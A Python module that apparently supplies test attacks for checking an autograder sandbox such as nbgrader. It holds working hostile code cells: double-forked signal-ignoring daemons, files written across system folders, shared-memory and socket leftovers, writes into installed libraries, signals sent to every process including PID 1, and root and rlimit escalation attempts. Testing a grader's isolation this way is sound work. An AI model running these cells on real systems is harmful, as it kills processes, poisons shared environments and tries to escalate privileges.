"""What is to outlive its own submission: processes, files, memory, sockets, poisoned modules."""

from ..attack import Attack, everywhere

_FAMILY = "left behind"


def _attack(name: str, tries: str, cell: str, **more: object) -> Attack:
    return Attack(name, _FAMILY, tries, cell, **more)  # type: ignore[arg-type]


_MARK = """
import ctypes, os, time
def linger(seconds=600):
    ctypes.CDLL(None).prctl(15, b"@TOKEN@"[:15], 0, 0, 0)
    end = time.time() + seconds
    while time.time() < end:
        time.sleep(0.5)
"""

ATTACKS = [
    _attack(
        "daemon",
        "a daemon, forked twice, in a session of its own",
        _MARK
        + """
import signal
if os.fork() == 0:
    os.setsid()
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            pass
    if os.fork() == 0:
        linger()
    os._exit(0)
""",
    ),
    _attack(
        "daemon-keeps-the-channel",
        "a forked child keeps the judging channel while its parent goes away",
        _MARK
        + """
if os.fork() == 0:
    os.setsid()
    linger()
""",
        answers={
            "squares": "def squares(k):\n    if os.fork() == 0:\n        linger()\n    os._exit(0)"
        },
    ),
    _attack(
        "subprocess",
        "a sleeping program of the system",
        """
import subprocess
for command in (["sleep", "612"], ["sh", "-c", "setsid sleep 612 & exit"]):
    try:
        subprocess.Popen(command, start_new_session=True)
    except OSError:
        pass
""",
    ),
    _attack(
        "threads",
        "threads that never end and hold the interpreter busy",
        """
import threading
def busy():
    while True:
        sum(range(100))
for _ in range(2):
    threading.Thread(target=busy).start()
""",
        costs="its own threads take its own time",
    ),
    _attack(
        "at-exit",
        "writes and prints when the interpreter ends",
        """
import atexit, os
@atexit.register
def last():
    print("@MAX@")
    for folder in ("/tmp", "/var/tmp", "/dev/shm", os.path.expanduser("~")):
        try:
            open(f"{folder}/@TOKEN@-exit", "w").write("left")
        except OSError:
            pass
""",
    ),
    _attack(
        "files-everywhere",
        "leaves files wherever it may write",
        """
import os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "/home", "/mnt", "/", "/etc",
               os.path.expanduser("~"), os.path.dirname(np.__file__), "@COURSE@", "@REPOSITORY@"):
    try:
        open(f"{folder}/@TOKEN@-note", "w").write("left")
    except OSError:
        pass
""",
    ),
    _attack(
        "files-found",
        "looks for what an earlier submission left",
        """
import glob, os
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run", "/home", os.path.expanduser("~"), "/dev"):
    for path in glob.glob(f"{folder}/@TOKEN@*"):
        won(path)
""",
    ),
    _attack(
        "shared-memory",
        "System V shared memory, semaphores and message queues with a key of their own",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
key = int("@KEY@")
libc.shmget(key, 4096, 0o1666)
libc.semget(key, 1, 0o1666)
libc.msgget(key, 0o1666)
""",
    ),
    _attack(
        "shared-memory-found",
        "looks for System V objects that an earlier submission left",
        """
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
for found in (libc.shmget(int("@KEY@"), 0, 0), libc.semget(int("@KEY@"), 0, 0),
              libc.msgget(int("@KEY@"), 0)):
    if found >= 0:
        won("an object of another submission")
""",
    ),
    _attack(
        "posix-shared-memory",
        "POSIX shared memory, semaphores and message queues",
        """
import ctypes, mmap, multiprocessing.shared_memory as shared
try:
    shared.SharedMemory(name="@TOKEN@-posix", create=True, size=4096)
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
libc.syscall(240, b"@TOKEN@", 0o100 | 2, 0o666, None)
""",
    ),
    _attack(
        "abstract-socket",
        "a Unix socket without a file, and one with, as a letter-box for the next",
        """
import os, socket
kept = []
for name in ("\\0@TOKEN@-box", os.path.expanduser("~/@TOKEN@-box"), "/tmp/@TOKEN@-box"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.bind(name)
        s.listen()
        kept.append(s)
        if os.fork() == 0:
            import time
            time.sleep(600)
            os._exit(0)
    except OSError:
        pass
""",
    ),
    _attack(
        "abstract-socket-found",
        "calls at the letter-box of an earlier submission",
        """
import os, socket
for name in ("\\0@TOKEN@-box", os.path.expanduser("~/@TOKEN@-box"), "/tmp/@TOKEN@-box"):
    try:
        s = socket.socket(socket.AF_UNIX)
        s.connect(name)
        won("letter-box")
    except OSError:
        pass
""",
    ),
    _attack(
        "poison-the-libraries",
        "writes into the installed packages and their caches, for whoever comes next",
        """
import os, pathlib, descent, IPython
for module in (np, descent, IPython, os):
    folder = pathlib.Path(module.__file__).parent
    for path in (folder / "__init__.py", folder / "__pycache__" / "@TOKEN@.pyc",
                 folder.parent / "sitecustomize.py", folder.parent / "@TOKEN@.pth"):
        try:
            with open(path, "a") as file:
                won(path)
        except OSError:
            pass
""",
        not_stock="it would write into the environment that everything else runs in",
    ),
    _attack(
        "poison-the-memory",
        "spoils numpy, builtins and generators, hoping that the next shares its process",
        """
import builtins, random, sys
np.random.seed(0)
random.seed(0)
np.seterr(all="raise")
np.pi = 3
np.set_printoptions(threshold=0, precision=1)
sys.setrecursionlimit(120)
builtins.print = lambda *a, **k: None
import warnings
warnings.simplefilter("error")
""",
    ),
    _attack(
        "kill-everybody",
        "signals every process it can name: all, its group, its parents, its siblings",
        """
import os, signal
signal.signal(signal.SIGTERM, signal.SIG_IGN)
parent, me = os.getppid(), os.getpid()
for number in (signal.SIGTERM, signal.SIGHUP, signal.SIGUSR1, signal.SIGSTOP, signal.SIGKILL):
    for pid in (parent, 1, *range(2, 400)):
        if pid not in (me, 0):
            try:
                os.kill(pid, number)
                won(f"signal {number} to {pid}")
            except OSError:
                pass
""",
        not_stock="it would kill the sandbox that stock nbgrader is run in",
    ),
    _attack(
        "kill-the-group",
        "kills its process group and all processes at once",
        """
import os, signal
for pid in (0, -1):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
""",
        not_stock="it would kill the sandbox that stock nbgrader is run in",
    ),
    _attack(
        "stop-itself",
        "stops itself, so that a grader waits for ever",
        "",
        answers={
            "squares": "import os, signal\ndef squares(k):\n"
            "    os.kill(os.getpid(), signal.SIGSTOP)"
        },
    ),
    _attack(
        "raise-own-limits",
        "lifts its limits, takes another core, a higher priority and other rights",
        """
import os, resource
for name in dir(resource):
    if name.startswith("RLIMIT_"):
        try:
            resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)
            if name in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_NPROC"):
                won(name)
        except (OSError, ValueError):
            pass
for call in (lambda: os.setuid(0), lambda: os.setgid(0), lambda: os.nice(-20),
             lambda: os.chroot("/"), lambda: os.mknod("@TOKEN@", 0o20666, 0x103)):
    try:
        call()
        won("a right")
    except OSError:
        pass
""",
        not_stock="stock nbgrader sets no limits that could be lifted",
    ),
    _attack(
        "double-execution",
        "counts its runs, to answer otherwise when a notebook is repeated",
        """
import os
runs = os.path.expanduser("~/@TOKEN@-runs")
if os.path.exists(runs):
    won("an earlier run's file")
open(runs, "a").write("x")
""",
        answers=everywhere("import os\nos._exit(0)"),
    ),
    _attack(
        "others-limits",
        "lowers the limits, the turns and the cores of every process there is",
        """
import os, resource
for pid in range(1, 40000):
    if pid == os.getpid():
        continue
    for lower in (
        lambda: resource.prlimit(pid, resource.RLIMIT_CPU, (1, 1)),
        lambda: resource.prlimit(pid, resource.RLIMIT_NOFILE, (3, 3)),
        lambda: os.setpriority(os.PRIO_PROCESS, pid, 19),
        lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
    ):
        try:
            lower()
            won(f"changed process {pid}")
        except OSError:
            pass
""",
        not_stock="it would reach the processes of the table's own user",
    ),
]
